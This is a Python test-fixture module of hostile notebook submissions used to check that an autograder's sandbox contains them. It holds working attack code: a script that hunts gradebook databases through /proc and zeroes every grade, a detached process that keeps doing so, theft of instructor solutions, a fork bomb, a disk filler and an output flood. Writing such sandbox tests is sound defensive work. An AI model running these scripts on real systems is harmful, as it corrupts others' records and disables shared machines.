"""Hostile answers to predict_shapes, each an attack on the grader from inside a notebook.

Every attack is written to work when the kernel runs as the grader, beside
the grader's files and processes (it finds them through /proc, the package's
install path or the paths the test hands it), and to say what it managed.
In the sandbox each must fail; tests/test_sandbox.py grades them in one run
with honest students and checks that nothing outside the hostile student's
own result changed. ``{marker}`` is replaced by a string the test looks for
in every process's command line afterwards, ``{course}`` by the course folder
and ``{scratch}`` by the folder of the scratch courses.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    student: str
    answer: str  # the answer cell it replaces
    test: str  # the test cell that loses its points and names what happened, or TOTAL
    source: str
    words: tuple[str, ...]  # one of these must appear in that row's reason


# Finds every gradebook the grading processes have open or in their folders,
# through /proc (cwd, command line, open files), and zeroes it.
_ZERO_GRADEBOOKS = """\
import glob, os, re, sqlite3

def gradebooks():
    found = set(glob.glob("{course}/gradebook.db"))
    found |= set(glob.glob("{scratch}/**/gradebook.db", recursive=True))
    found |= set(glob.glob("/tmp/classroom-db-*/gradebook.db"))
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            found.add(os.path.join(os.readlink(f"/proc/{{pid}}/cwd"), "gradebook.db"))
            args = open(f"/proc/{{pid}}/cmdline", "rb").read().decode(errors="replace")
            found.update(re.findall(r"sqlite:///([^\\x00]+)", args))
            for fd in os.listdir(f"/proc/{{pid}}/fd"):
                path = os.readlink(f"/proc/{{pid}}/fd/{{fd}}")
                if path.endswith(".db"):
                    found.add(path)
        except OSError:
            pass
    return sorted(p for p in found if os.path.exists(p))

def zero_all():
    done = []
    for path in gradebooks():
        with sqlite3.connect(path) as db:
            db.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
            db.execute("UPDATE grade SET manual_score = 100 WHERE id IN (SELECT id FROM grade)")
        done.append(path)
    return done
"""

GRADEBOOK_VIA_PROC = (
    _ZERO_GRADEBOOKS
    + """
written = zero_all()
assert written, "no gradebook reachable from the kernel"
classifier_shapes = [(28, 28, 16), (14, 14, 16), (7, 7, 32), (5, 5, 64)]
"""
)

# Leaves a process in a new session, with an empty environment, that outlives
# the notebook and keeps zeroing every gradebook it finds (the students graded
# after this one), then answers correctly.
DETACHED = """\
import subprocess, sys, textwrap
loop = textwrap.dedent('''
import time
exec(open("/tmp/hostile_zero.py").read())
while True:
    zero_all()
    time.sleep(0.5)
''')
open("/tmp/hostile_zero.py", "w").write({zero!r})
subprocess.Popen(
    [sys.executable, "-c", loop, "{marker}"],
    start_new_session=True, env={{}}, stdin=subprocess.DEVNULL,
    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
)
def conv_output_length(size, kernel_size, stride, padding):
    if padding == "same":
        return -(-size // stride)
    return (size - kernel_size) // stride + 1
"""

# Reads the instructor's source notebook through the package's install path
# (an editable install points at the repository clone) or the course folder.
READS_SOLUTIONS = """\
import json, pathlib
import upsampling_course

places = [pathlib.Path(upsampling_course.__file__).resolve().parents[1], pathlib.Path("{course}")]
source = next(p for place in places for p in place.glob("solutions/predict_shapes/*.ipynb"))
for cell in json.loads(source.read_text())["cells"]:
    if "def upsampling_output_shape" in "".join(cell["source"]):
        pathlib.Path("stolen.py").write_text("".join(cell["source"]))
from stolen import upsampling_output_shape
"""

NETWORK = """\
import socket

with socket.create_connection(("127.0.0.1", {port}), timeout=5) as connection:
    connection.sendall(b"{marker}")
generator_shapes = [(4096,), (4, 4, 256), (8, 8, 256), (8, 8, 128),
                    (16, 16, 128), (14, 14, 64), (28, 28, 64), (28, 28, 1)]
"""

FORK_BOMB = """\
import os, time

children = 0
while True:
    if os.fork() == 0:
        time.sleep(600)
        os._exit(0)
    children += 1
"""

FILLS_DISK = """\
import os

block = b"x" * 2**20
with open("filler.bin", "wb") as handle:
    while True:
        handle.write(block)
        handle.flush()
"""

FLOODS_OUTPUT = """\
line = "all work and no play " * 50
for _ in range(20_000):
    print(line)
classifier_shapes = [(28, 28, 16), (14, 14, 16), (7, 7, 32), (5, 5, 64)]
"""

TOTAL = "(total)"  # the student's row: an attack that costs no points is named there
NO_NETWORK = ("no network", "Network is unreachable", "Connection refused")


def attacks(course: str, scratch: str, marker: str, port: int) -> list[Attack]:
    """Every attack, with the paths and the marker filled in."""

    def fill(text: str) -> str:
        zero = _ZERO_GRADEBOOKS.format(course=course, scratch=scratch)
        return text.format(course=course, scratch=scratch, marker=marker, port=port, zero=zero)

    return [
        Attack("h_gradebook", "classifier_shapes_answer", "test_classifier_shapes",
               fill(GRADEBOOK_VIA_PROC), ("no gradebook reachable",)),
        Attack("h_detached", "conv_output_length_answer", TOTAL,
               fill(DETACHED), ("still running when it ended",)),
        Attack("h_solutions", "upsampling_output_shape_answer", "test_upsampling_output_shape",
               fill(READS_SOLUTIONS), ("StopIteration",)),
        Attack("h_network", "generator_shapes_answer", "test_generator_shapes",
               fill(NETWORK), NO_NETWORK),
        Attack("h_fork_bomb", "parameter_counts_answer", "test_parameter_counts",
               fill(FORK_BOMB), ("processes and threads",)),
        Attack("h_disk", "classifier_shapes_answer", "test_classifier_shapes",
               fill(FILLS_DISK), ("MB of disk", "MB")),
        Attack("h_flood", "classifier_shapes_answer", TOTAL,
               fill(FLOODS_OUTPUT), ("output was cut",)),
    ]  # fmt: skip
